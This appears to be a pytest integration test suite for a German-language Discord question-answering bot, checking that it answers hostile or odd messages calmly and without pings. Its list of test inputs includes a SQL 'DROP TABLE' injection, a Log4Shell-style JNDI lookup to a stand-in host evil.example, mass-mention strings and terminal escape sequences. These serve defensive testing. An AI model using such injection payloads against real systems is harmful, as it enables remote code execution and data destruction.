"""Questions that want to do harm, or could by accident: a calm answer, no ping, nothing that Discord refuses."""

import asyncio
import re

import pytest

pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="module")]

QUESTION, WORDS = "Wer überreichte Kim die Einladung?", "Lawrow"
PERSON, ROLE = 100000000000000001, 200000000000000001
ZALGO = "".join(letter + "\u0335\u0321\u0489" * 3 for letter in "Wer überreichte Kim die Einladung?")
HOSTILE = {
    "everyone": f"@everyone @here {QUESTION}",
    "mentions": f"<@{PERSON}> <@&{ROLE}> <#{PERSON}> {QUESTION}",
    "backticks": "`" * 1900,
    "code fence": f"```sql\nDROP TABLE answer; -- {QUESTION}",
    "right to left": f"\u202e\u2066\u200f{QUESTION}\u202d\u2069",
    "zalgo": ZALGO,
    "long": f"{QUESTION} " + "Und wer noch? " * 30,
    "one long word": "x" * 400,
    "markdown": f"# **__~~||{QUESTION}||~~__** [hier](https://evil.example) > <t:0:R> </frage:1>",
    "invite": f"https://discord.gg/abcdef {QUESTION} discord.gift/xyz",
    "control characters": f"\x00\x07\x1b[31m {QUESTION} \x1b]0;Titel\x07",
    "brackets": "[[[[((((?" * 200,
    "emoji": "😀" * 900 + "?",
    "template": "{period} {0} %s %(x)s ${jndi:ldap://evil.example} " + QUESTION,
}


def is_calm(message):
    assert message.text.strip()
    assert not message.is_thinking
    assert not message.pings
    # What is allowed counts: the echo may have moved from the content to an embed only today.
    assert message.allowed_mentions is not None
    assert not message.allowed_mentions.get("parse")
    assert "Fehlernummer" not in message.text
    return True


@pytest.mark.parametrize("name", HOSTILE)
async def test_hostile_questions_in_every_way(shared_discord, place, paula, name):
    text, direct = HOSTILE[name], shared_discord.dm(paula)
    said = await place.say(paula, text, mention=True)
    assert is_calm(await place.reply(said))
    assert is_calm(await direct.reply(await direct.say(paula, text)))
    assert is_calm(await (await place.slash(paula, "frage", frage=text)).answer())
    claim = await place.say(shared_discord.person("Ben"), text)
    evidence = await (await place.context_menu(paula, "Beleg suchen", claim)).answer()
    assert is_calm(evidence)
    if any(button.label == "Allen zeigen" for button in evidence.buttons):
        assert is_calm(await (await place.click(paula, evidence, "Allen zeigen")).followup())
    await place.forbid("embed_links")
    assert is_calm(await place.reply(await place.say(paula, text, mention=True)))
    assert is_calm(await (await place.context_menu(paula, "Beleg suchen", claim)).answer())


@pytest.mark.parametrize("name", ["everyone", "mentions", "right to left", "markdown"])
async def test_what_surrounds_a_question_does_not_hide_it(place, paula, name):
    assert WORDS in (await place.reply(await place.say(paula, HOSTILE[name], mention=True))).text


async def test_the_longest_question(shared_discord, place, paula):
    question = (QUESTION + " ").ljust(2000, "x")
    assert is_calm(await (await place.slash(paula, "frage", frage=question)).answer())
    direct = shared_discord.dm(paula)
    assert is_calm(await direct.reply(await direct.say(paula, question)))
    # With Nitro a message may have 4,000 characters.
    assert is_calm(await direct.reply(await direct.say(paula, question * 2)))


@pytest.mark.parametrize("content", ["", "   ", "**__~~||``||~~__**", "```\n```", "<@100000000000000001>"])
async def test_a_mention_that_asks_nothing_is_told_how_to_ask(place, paula, content):
    reply = await place.reply(await place.say(paula, content, mention=True))
    assert is_calm(reply)
    assert "/frage" in reply.text


async def test_a_mention_that_only_nods_is_passed_over(place, paula):
    nods = [await place.say(paula, content, mention=True) for content in ("👍", "Danke!", "[[[(((", "> ", "\u200b")]
    assert WORDS in (await place.reply(await place.say(paula, QUESTION, mention=True))).text
    assert [place.replies(nod) for nod in nods] == [[]] * len(nods)


@pytest.mark.parametrize("content", ["", "https://example.org/a?b=c", "<@100000000000000001>", "👍", "..."])
async def test_a_message_without_words_is_no_claim(shared_discord, place, paula, content):
    message = await place.say(shared_discord.person("Ben"), content)
    told = await (await place.context_menu(paula, "Beleg suchen", message)).answer()
    assert told.visible_to is paula
    assert is_calm(told)
    assert told.embeds == []


async def test_bots_and_webhooks_are_not_answered_but_may_be_looked_up(shared_discord, place, paula):
    robot, webhook = shared_discord.person("Robbi", is_bot=True), shared_discord.person("Ticker", is_webhook=True)
    said = [await place.say(other, QUESTION, mention=True) for other in (robot, webhook)]
    claims = [await place.say(other, "Lawrow hat Kim eine Einladung überreicht.") for other in (robot, webhook)]
    for claim in claims:
        assert WORDS in (await (await place.context_menu(paula, "Beleg suchen", claim)).answer()).text
    assert [place.replies(message) for message in said] == [[], []]
    # Two bots that reply to each other would never end.
    answer = await place.reply(await place.say(paula, QUESTION, mention=True))
    loop = await place.say(robot, QUESTION, reply_to=answer)
    assert WORDS in (await place.reply(await place.say(paula, QUESTION, mention=True))).text
    assert place.replies(loop) == []


async def test_an_edited_question_has_one_answer(place, paula):
    question = await place.say(paula, QUESTION, mention=True)
    await place.edit(question, f"{place.bot.mention} Mit wem traf sich Kim Jong Il 2011?")
    answer = await place.reply(question)
    assert WORDS in answer.text
    await place.edit(question, f"{place.bot.mention} Womit wurde Kim begrüßt?")
    assert WORDS in (await place.reply(await place.say(paula, QUESTION, mention=True))).text
    assert place.replies(question) == [answer]


async def test_a_question_that_is_deleted_while_it_is_answered(shared_discord, place, paula):
    question = await place.say(paula, QUESTION, mention=True)
    await shared_discord.until(lambda: place.typing_at or None, timeout=20, what="typing")
    await place.remove(question)
    answer = await place.reply(question)
    assert WORDS in answer.text
    assert is_calm(answer)


async def test_an_answer_that_is_deleted(shared_discord, stormy_place, paula):
    answer = await (await stormy_place.slash(paula, "frage", frage=QUESTION)).answer()
    click = await stormy_place.click(paula, answer, "Weitere Stellen")
    await stormy_place.remove(answer)
    assert is_calm(await click.answer())
    thinking = await stormy_place.slash(paula, "frage", frage=QUESTION)
    await thinking.acknowledged
    await stormy_place.remove(thinking.original)
    other = await stormy_place.slash(paula, "frage", frage=QUESTION)
    assert WORDS in (await other.answer()).text


async def test_one_person_shouting_does_not_silence_the_others(shared_discord, place):
    loud, quiet = shared_discord.person("Laut"), shared_discord.person("Leise")
    shouts = [await place.say(loud, QUESTION, mention=True) for _ in range(60)]
    assert WORDS in (await (await place.slash(quiet, "frage", frage=QUESTION)).answer()).text
    await asyncio.gather(*(place.reply(shout) for shout in shouts[:10]))
    refused = [reply.text for shout in shouts for reply in place.replies(shout) if WORDS not in reply.text]
    assert len(refused) == 1
    assert re.match("Du hast in der letzten Minute schon 10 Fragen gestellt", refused[0])
